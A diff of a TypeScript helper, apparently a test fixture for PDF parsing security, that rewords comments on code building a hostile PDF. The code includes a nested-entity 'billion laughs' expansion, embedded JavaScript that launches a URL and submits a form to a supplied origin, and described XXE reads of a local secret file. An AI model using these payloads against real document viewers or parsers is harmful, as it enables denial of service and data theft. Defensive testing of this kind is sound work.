@@ -1,12 +1,12 @@
 import { makePdf } from './make-pdf.ts';
 
-/** What a hostile file would lead to. */
+/** The targets of a hostile file. */
 interface Aims {
-  /** A site outside that nobody should ask. */
+  /** An external site that must not be requested. */
   readonly origin: string;
-  /** A file of the machine that nobody should read. */
+  /** A local file that must not be read. */
   readonly secretPath: string;
-  /** How it says it is called, and by whom it is written: markup, as words. */
+  /** Markup used as its title and author. */
   readonly words: string;
 }
 
@@ -15,7 +15,7 @@ const LAUGHS = Array.from(
   (_, depth) => `<!ENTITY l${depth + 1} "${`&l${depth};`.repeat(10)}">`,
 ).join('');
 
-/** A PDF that says in XML what would fetch, read and unfold, and wants to run, start, open and attach. */
+/** A PDF with XML that fetches, reads and expands entities, and with actions that run, launch, open and attach. */
 export function hostilePdf({ origin, secretPath, words }: Aims): Buffer {
   const script = `app.alert(1); app.launchURL("${origin}/script"); this.submitForm("${origin}/form");`;
   const actions = [
